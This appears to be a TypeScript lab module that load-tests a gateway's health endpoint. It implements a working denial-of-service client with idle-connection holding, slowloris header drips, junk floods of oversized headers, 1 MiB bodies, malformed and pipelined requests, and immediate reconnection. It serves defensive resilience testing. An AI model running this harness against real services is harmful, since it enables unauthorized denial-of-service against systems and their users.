// An abusive client of the health port, as any pod in the cluster could be:
// it holds idle connections that never send a byte, slowloris connections that
// send a header line every half second and never finish, and floods junk
// (16 KiB header lines, 1 MiB POST bodies, malformed request lines, unknown
// paths, thousands of pipelined requests on one socket). Every connection the
// server closes is opened again at once, so the pressure never lets up.
// Run it in its own process (lab/health-attack-cli.ts) so that it competes
// with the gateway for CPU the way a pod on the same node would.
import { spawn } from "node:child_process";
import { connect, type Socket } from "node:net";
import { dirname, join } from "node:path";
import { createInterface } from "node:readline";
import { fileURLToPath } from "node:url";

export interface AttackPlan {
  readonly host: string;
  readonly port: number;
  /** Local address the attacker's connections come from (another loopback address than the poller's). */
  readonly sourceAddress?: string;
  readonly idle: number;
  readonly slowloris: number;
  /** Concurrent junk senders; 0 disables the flood. */
  readonly floodWorkers: number;
  /** Requests in the one pipelined burst of each flood round. */
  readonly pipelined: number;
}

export interface AttackCounts {
  /** Connections the attacker opened. */
  opened: number;
  /** Connections that failed to open (refused, reset, no fd). */
  failed: number;
  /** Junk payloads written. */
  junkSent: number;
  /** Bytes the server answered the junk with. */
  answeredBytes: number;
}

const SLOWLORIS_MS = 500;
const JUNK_TIMEOUT_MS = 2_000;
const RETRY_MS = 20;

/** The kinds of junk the flood cycles through, each a complete payload for one connection. */
export function junkPayloads(pipelined: number): readonly Buffer[] {
  const host = "Host: gateway\r\n";
  return [
    Buffer.from(`GET /readiness HTTP/1.1\r\n${host}X-Junk: ${"a".repeat(16 * 1024)}\r\n\r\n`),
    Buffer.concat([
      Buffer.from(`POST /readiness HTTP/1.1\r\n${host}Content-Length: ${2 ** 20}\r\n\r\n`),
      Buffer.alloc(2 ** 20, 0x78),
    ]),
    Buffer.from("HELLO / WORLD/9\r\n\r\n"),
    Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]), // a TLS ClientHello
    Buffer.from(`GET /wp-admin/${"x".repeat(200)} HTTP/1.1\r\n${host}\r\n`),
    Buffer.from(`GET /readiness HTTP/1.1\r\n${host}\r\n`.repeat(pipelined)),
  ];
}

export class HealthAttack {
  readonly counts: AttackCounts = { opened: 0, failed: 0, junkSent: 0, answeredBytes: 0 };
  private readonly sockets = new Set<Socket>();
  private readonly timers = new Set<NodeJS.Timeout>();
  private stopped = false;
  private readonly junk: readonly Buffer[];

  constructor(private readonly plan: AttackPlan) {
    this.junk = junkPayloads(plan.pipelined);
  }

  start(): void {
    for (let i = 0; i < this.plan.idle; i++) this.holdIdle();
    for (let i = 0; i < this.plan.slowloris; i++) this.holdSlowloris();
    for (let i = 0; i < this.plan.floodWorkers; i++) this.flood(i);
  }

  /** Connections the attacker holds right now. */
  get held(): number {
    return this.sockets.size;
  }

  stop(): void {
    this.stopped = true;
    for (const timer of this.timers) clearTimeout(timer);
    for (const socket of this.sockets) socket.destroy();
  }

  private later(ms: number, fn: () => void): void {
    if (this.stopped) return;
    const timer = setTimeout(() => {
      this.timers.delete(timer);
      if (!this.stopped) fn();
    }, ms);
    this.timers.add(timer);
  }

  /** A connection that runs `onOpen`, and `onClosed` once it ends for any reason. */
  private open(onOpen: (socket: Socket) => void, onClosed: (opened: boolean) => void): void {
    if (this.stopped) return;
    const { host, port, sourceAddress } = this.plan;
    const socket = connect({ host, port, ...(sourceAddress ? { localAddress: sourceAddress } : {}) });
    let opened = false;
    this.sockets.add(socket);
    socket.on("connect", () => {
      opened = true;
      this.counts.opened++;
      onOpen(socket);
    });
    socket.on("data", (chunk: Buffer) => (this.counts.answeredBytes += chunk.length));
    socket.on("error", () => undefined);
    socket.on("close", () => {
      this.sockets.delete(socket);
      if (!opened) this.counts.failed++;
      onClosed(opened);
    });
  }

  private again(opened: boolean, fn: () => void): void {
    if (opened) fn();
    else this.later(RETRY_MS, fn);
  }

  private holdIdle(): void {
    this.open(
      () => undefined,
      (opened) => this.again(opened, () => this.holdIdle()),
    );
  }

  private holdSlowloris(): void {
    this.open(
      (socket) => {
        socket.write("GET /readiness HTTP/1.1\r\nHost: gateway\r\n");
        const drip = (n: number): void =>
          this.later(SLOWLORIS_MS, () => {
            if (socket.destroyed) return;
            socket.write(`X-Slow-${n}: 1\r\n`);
            drip(n + 1);
          });
        drip(0);
      },
      (opened) => this.again(opened, () => this.holdSlowloris()),
    );
  }

  private flood(round: number): void {
    const payload = this.junk[round % this.junk.length]!;
    this.open(
      (socket) => {
        this.counts.junkSent++;
        socket.write(payload, () => socket.end());
        socket.setTimeout(JUNK_TIMEOUT_MS, () => socket.destroy());
      },
      (opened) => this.again(opened, () => this.flood(round + 1)),
    );
  }
}

export interface RunningAttack {
  readonly pid: number;
  /** The counts the attacker last reported. */
  last(): AttackCounts & { held: number };
  /** Resolves once the attacker holds at least `connections`, or rejects after timeoutMs. */
  holding(connections: number, timeoutMs: number): Promise<void>;
  /** Stops the attacker; resolves with its final counts. */
  stop(): Promise<AttackCounts & { held: number }>;
}

/** Starts the attacker in a child process (lab/health-attack-cli.ts) with its own fd limit of `nofile`. */
export function spawnAttack(plan: AttackPlan, nofile = 16_384): RunningAttack {
  const cli = join(dirname(fileURLToPath(import.meta.url)), "health-attack-cli.ts");
  const child = spawn(
    "prlimit",
    [`--nofile=${nofile}:${nofile}`, "--", process.execPath, "--import", "tsx", cli, JSON.stringify(plan)],
    { stdio: ["ignore", "pipe", "inherit"] },
  );
  let last = { held: 0, opened: 0, failed: 0, junkSent: 0, answeredBytes: 0 };
  const listeners = new Set<() => void>();
  createInterface({ input: child.stdout }).on("line", (line) => {
    last = JSON.parse(line) as typeof last;
    for (const listener of listeners) listener();
  });
  const exited = new Promise<void>((resolve) => child.once("exit", () => resolve()));
  return {
    pid: child.pid!,
    last: () => last,
    holding(connections, timeoutMs) {
      return new Promise((resolve, reject) => {
        const check = (): void => {
          if (last.held < connections) return;
          listeners.delete(check);
          clearTimeout(timer);
          resolve();
        };
        const timer = setTimeout(() => {
          listeners.delete(check);
          reject(
            new Error(`attacker holds ${last.held} connections, not ${connections}, after ${timeoutMs} ms`),
          );
        }, timeoutMs);
        listeners.add(check);
        void exited.then(() => {
          listeners.delete(check);
          clearTimeout(timer);
          reject(new Error("the attacker exited"));
        });
      });
    },
    async stop() {
      if (child.exitCode === null && child.signalCode === null) child.kill("SIGTERM");
      await exited;
      return last;
    },
  };
}
